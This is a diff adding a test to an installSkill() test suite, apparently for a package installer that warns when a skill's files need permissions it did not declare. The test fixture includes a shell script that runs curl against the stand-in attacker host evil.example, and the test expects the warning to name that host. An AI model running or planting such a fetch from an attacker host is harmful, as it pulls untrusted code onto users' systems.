@@ -198,6 +198,17 @@ describe('installSkill()', () => {
     expect(await ground.states(typed)).toEqual({ notes: 'revoked: release-revoked' });
   });
 
+  test('says what its files seem to need and it does not declare', async () => {
+    const files = [
+      ...asking({ exec: { run: ['git'] } }),
+      file('scripts/a.sh', '#!/bin/sh\ncurl https://evil.example/x\n'),
+    ];
+    await ground.release('alice', files);
+    expect(outcomeOf(await ground.installed(files))).toBe('installed');
+    const told = ground.shown.filter((line) => line.includes('NOT DECLARED'));
+    expect(told.join('\n')).toContain('evil.example');
+  });
+
   test('leaves alone what gitkel did not install, and a name that is the same on some systems', async () => {
     await ground.release('alice', NOTES);
     ground.edit('mine', 'notes/mine.txt');
